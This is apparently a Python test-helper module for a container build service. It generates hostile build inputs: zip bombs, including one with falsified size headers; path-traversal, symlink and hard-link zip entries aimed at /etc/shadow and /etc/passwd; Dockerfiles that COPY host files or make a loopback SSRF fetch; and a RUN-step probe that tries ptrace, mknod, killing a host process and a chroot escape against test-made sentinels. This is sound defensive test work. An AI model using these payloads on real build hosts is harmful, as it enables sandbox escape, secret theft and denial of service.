"""Hostile code artifacts: zips that lie, escape or explode, Dockerfiles that are huge or reach
for the host, and a RUN-step probe that reports what a build step can do to the machine it runs on.

Every probe aims at sentinels the test made for the purpose (a file in a fresh temp dir, a `sleep`
process of its own), never at anything else on the host.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import textwrap
import zipfile
from dataclasses import dataclass

MIB = 1024 * 1024
BASE = "FROM public.ecr.aws/lambda/microvms:al2023-minimal\n"
_PKWARE_UNIX_EXTRA = 0x000D


def zip_entries(
    entries: list[tuple[zipfile.ZipInfo | str, bytes]], compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buffer.getvalue()


def _unix(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def _symlink(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    return _unix(name, stat.S_IFLNK | 0o777), target.encode()


def _hardlink(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = _unix(name, stat.S_IFREG | 0o644)
    linked = target.encode()
    # PKWARE Unix extra field: atime, mtime, uid, gid, then the "linked to" name (APPNOTE 4.5.7).
    info.extra = struct.pack("<HHIIHH", _PKWARE_UNIX_EXTRA, 12 + len(linked), 0, 0, 0, 0) + linked
    return info, b""


def zip_bomb(uncompressed: int) -> bytes:
    """A Dockerfile and one entry of `uncompressed` zero bytes (compresses ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("Dockerfile", BASE)
        with archive.open("zeros.bin", "w", force_zip64=True) as entry:
            block = bytes(MIB)
            for _ in range(uncompressed // MIB):
                entry.write(block)
    return buffer.getvalue()


def lying_zip_bomb(uncompressed: int, claimed: int = 1024) -> bytes:
    """A bomb whose headers claim `claimed` bytes (local header and central directory both)."""
    data = bytearray(zip_bomb(uncompressed))
    marker = b"zeros.bin"
    for signature, size_offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(marker)] == marker:
                struct.pack_into("<I", data, start + size_offset, claimed)
            start += 4
    return bytes(data)


def many_files(count: int) -> bytes:
    return zip_entries(
        [("Dockerfile", BASE.encode()), *((f"f/{i}", b"x") for i in range(count))], zipfile.ZIP_STORED
    )


@dataclass(frozen=True)
class Artifact:
    name: str
    data: bytes
    # Paths on the host that must not exist after the build (where an escape would have written).
    targets: tuple[str, ...] = ()


def escaping_artifacts(target_dir: str) -> list[Artifact]:
    """Zips that try to put files outside the build context, each aiming into target_dir."""
    out = f"{target_dir}/slip"
    dockerfile = ("Dockerfile", BASE.encode())
    depth = "../" * 24
    return [
        Artifact(
            "dot-dot",
            zip_entries([dockerfile, (f"{depth}{out.lstrip('/')}-dotdot", b"pwned")]),
            (f"{out}-dotdot",),
        ),
        Artifact("absolute", zip_entries([dockerfile, (f"{out}-absolute", b"pwned")]), (f"{out}-absolute",)),
        Artifact(
            "backslashes",
            zip_entries([dockerfile, (depth.replace("/", "\\") + out.lstrip("/") + "-backslash", b"pwned")]),
            (f"{out}-backslash",),
        ),
        Artifact(
            "inner dot-dot",
            zip_entries([dockerfile, (f"a/b/{'../' * 30}{out.lstrip('/')}-inner", b"pwned")]),
            (f"{out}-inner",),
        ),
        Artifact("symlink out", zip_entries([dockerfile, _symlink("etc-link", "/etc")])),
        Artifact(
            "symlink chain",
            zip_entries(
                [dockerfile, _symlink("a", "b/../.."), _symlink("b", "."), _symlink("c", "a/a/a/etc")]
            ),
        ),
        Artifact(
            "write through a symlinked dir",
            zip_entries([dockerfile, _symlink("dir", target_dir), ("dir/slip-through", b"pwned")]),
            (f"{target_dir}/slip-through",),
        ),
        Artifact("hard link out", zip_entries([dockerfile, _hardlink("shadow", "/etc/shadow")])),
        Artifact("hard link chain", zip_entries([dockerfile, _hardlink("x", "../../../../etc/passwd")])),
        Artifact("device file", zip_entries([dockerfile, (_unix("disk", stat.S_IFBLK | 0o600), b"")])),
        Artifact("fifo", zip_entries([dockerfile, (_unix("pipe", stat.S_IFIFO | 0o600), b"")])),
        Artifact("Dockerfile is a symlink", zip_entries([_symlink("Dockerfile", "/etc/passwd")])),
        Artifact("no Dockerfile", zip_entries([("app.py", b"print(1)")])),
        Artifact("not a zip", b"this is not a zip archive"),
        Artifact("truncated zip", zip_entries([dockerfile, ("big", bytes(range(256)) * 4096)])[:-300]),
        Artifact("empty zip", zip_entries([])),
    ]


def long_name_artifact() -> Artifact:
    """An entry whose name is longer than any file name the host allows (NAME_MAX is 255)."""
    return Artifact("very long name", zip_entries([("Dockerfile", BASE.encode()), ("n" * 5000, b"x")]))


# ------------------------------------------------------------------------------ RUN-step probe

PROBE = textwrap.dedent(
    """
    import ctypes, json, os, socket, subprocess

    SENTINEL, VICTIM, PORT, SERVER_PID = {sentinel!r}, {victim}, {port}, {server_pid}

    def attempt(name, action):
        try:
            result = {{"ok": True, "detail": repr(action())[:300]}}
        except Exception as error:
            result = {{"ok": False, "detail": f"{{type(error).__name__}}: {{error}}"[:300]}}
        print("PROBE " + json.dumps({{"name": name, **result}}), flush=True)

    def mount_tmpfs():
        os.makedirs("/mnt/probe", exist_ok=True)
        subprocess.run(["mount", "-t", "tmpfs", "probe", "/mnt/probe"], check=True, capture_output=True)

    def write_proc_sys():
        # the value already there: harmless if it works, and proof that it could
        with open("/proc/sys/kernel/pid_max") as handle:
            value = handle.read()
        with open("/proc/sys/kernel/pid_max", "w") as handle:
            handle.write(value)

    def ptrace_server():
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, SERVER_PID, 0, 0) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        libc.ptrace(17, SERVER_PID, 0, 0)  # PTRACE_DETACH

    def escape_chroot():
        script = (
            "import os\\n"
            "fd = os.open('/', os.O_RDONLY)\\n"
            "os.makedirs('/tmp/escape', exist_ok=True)\\n"
            "os.chroot('/tmp/escape')\\n"
            "os.fchdir(fd)\\n"
            "[os.chdir('..') for _ in range(64)]\\n"
            "os.chroot('.')\\n"
            f"open({{SENTINEL!r}}, 'w').write('pwned by a RUN step')\\n"
        )
        subprocess.run(["python3", "-c", script], check=True, capture_output=True)

    def signal_host_process():
        os.kill(VICTIM, 9)

    def call_control_plane():
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as sock:
            sock.sendall(b"GET /2025-09-09/microvm-images HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n")
            answer = sock.recv(200)
        if not answer.startswith(b"HTTP/1.1 200"):
            raise RuntimeError(answer[:60])
        return answer[:40]

    def see_host_processes():
        if not os.path.exists(f"/proc/{{SERVER_PID}}"):
            raise RuntimeError("the server's pid is not visible")

    def make_device():
        subprocess.run(["mknod", "/tmp/probe-disk", "b", "8", "0"], check=True, capture_output=True)

    attempt("mount", mount_tmpfs)
    attempt("write /proc/sys", write_proc_sys)
    attempt("ptrace the server", ptrace_server)
    attempt("mknod a block device", make_device)
    attempt("see host processes", see_host_processes)
    attempt("signal a host process", signal_host_process)
    attempt("call the control plane", call_control_plane)
    attempt("escape the chroot and write a host file", escape_chroot)
    """
)


def probe_artifact(sentinel: str, victim_pid: int, port: int, server_pid: int) -> bytes:
    """A Dockerfile whose RUN step runs the probe, then fails (so the build log keeps the lines)."""
    script = PROBE.format(sentinel=sentinel, victim=victim_pid, port=port, server_pid=server_pid)
    dockerfile = BASE + "COPY probe.py /probe.py\nRUN python3 /probe.py; exit 7\n"
    return zip_entries([("Dockerfile", dockerfile.encode()), ("probe.py", script.encode())])


def probe_results(log_text: str) -> dict[str, dict[str, object]]:
    """name -> {"ok", "detail"} from the PROBE lines of a build log."""
    results: dict[str, dict[str, object]] = {}
    for line in log_text.splitlines():
        _, found, rest = line.partition("PROBE ")
        if found:
            try:
                entry = json.loads(rest)
            except ValueError:
                continue
            results.setdefault(entry["name"], entry)
    return results


def ssrf_artifact(port: int) -> bytes:
    """ADD of a URL on the host's loopback: buildah itself (on the host network) fetches it."""
    dockerfile = (
        BASE + f"ADD http://127.0.0.1:{port}/2025-09-09/microvm-images /leak.json\n"
        "RUN echo LEAKED $(head -c 120 /leak.json); exit 7\n"
    )
    return zip_entries([("Dockerfile", dockerfile.encode())])


def context_escape_artifacts() -> list[Artifact]:
    """Dockerfiles that name files outside their build context."""
    return [
        Artifact(
            "COPY ../", zip_entries([("Dockerfile", (BASE + "COPY ../../../../etc/shadow /x\n").encode())])
        ),
        Artifact("COPY absolute", zip_entries([("Dockerfile", (BASE + "COPY /etc/shadow /x\n").encode())])),
        Artifact("FROM a host path", zip_entries([("Dockerfile", b"FROM /\n")])),
    ]


def huge_dockerfile(size: int) -> bytes:
    """A Dockerfile of `size` bytes, mostly comments, and one RUN line of 128 KiB."""
    comment = "# " + "x" * 1000 + "\n"
    body = BASE + comment * (size // len(comment)) + f"RUN echo {'y' * 128 * 1024} > /dev/null\n"
    return zip_entries([("Dockerfile", body.encode())])
